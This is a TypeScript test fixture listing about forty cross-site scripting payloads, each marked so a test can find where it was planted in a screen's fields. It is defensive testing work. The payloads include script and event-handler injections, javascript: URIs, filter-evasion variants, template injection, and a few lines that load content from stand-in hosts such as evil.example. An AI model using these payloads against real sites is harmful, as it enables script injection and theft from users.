/**
 * Texts that would run, load or open something if any screen took them for markup, at most 42 characters each so that
 * they fit into every field. What they would inject carries an attribute `q`, by which it would be found.
 */
export const payloads = [
  '<script>alert(1)</script>',
  '<img q src=x onerror=alert(1)>',
  '"><img q src=x onerror=alert(1)>',
  "'><svg q onload=alert(1)>",
  '</textarea><svg q onload=alert(1)>',
  '<svg q onload=alert(1)>',
  '<svg><script q>alert(1)</script></svg>',
  '<svg><animate q onbegin=alert(1)>',
  '<iframe q src=javascript:alert(1)>',
  '<iframe q srcdoc="<script>alert(1)">',
  '<a q href=javascript:alert(1)>x</a>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '<body q onload=alert(1)>',
  '<details q open ontoggle=alert(1)>',
  '<video q><source onerror=alert(1)>',
  '<audio q src=x onerror=alert(1)>',
  '<input q autofocus onfocus=alert(1)>',
  '<select q autofocus onfocus=alert(1)>',
  '<textarea q autofocus onfocus=alert(1)>',
  '<marquee q onstart=alert(1)>',
  '<object q data=javascript:alert(1)>',
  '<embed q src=javascript:alert(1)>',
  '<math q><mi><img src onerror=alert(1)>',
  "<style q>@import'//evil.example'</style>",
  '<link q rel=stylesheet href=//evil.test>',
  '<base q href=//evil.example/>',
  '<meta q http-equiv=refresh content=0>',
  '<button q formaction=javascript:alert(1)>',
  '</title><script>alert(1)</script>',
  '--><svg q onload=alert(1)>',
  ']]><svg q onload=alert(1)>',
  '<scr<script>ipt>alert(1)</script>',
  '<IMG q SRC=x OnErRoR=alert(1)>',
  '<img q src=x onerror=&#97;lert(1)>',
  '&lt;img q src=x onerror=alert(1)&gt;',
  '<svg/q/onload=alert(1)>',
  "{{constructor.constructor('alert(1)')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it must reach the screens as it is.
  '${alert(1)}',
  '\\u003cimg q src=x onerror=alert(1)\\u003e',
];

/** The payload as the value of a field: behind it stands a sign of where it was planted, such as `§3title§`. */
export const planted = (index: number, field: string) => `${payloads[index]}§${index}${field}§`;
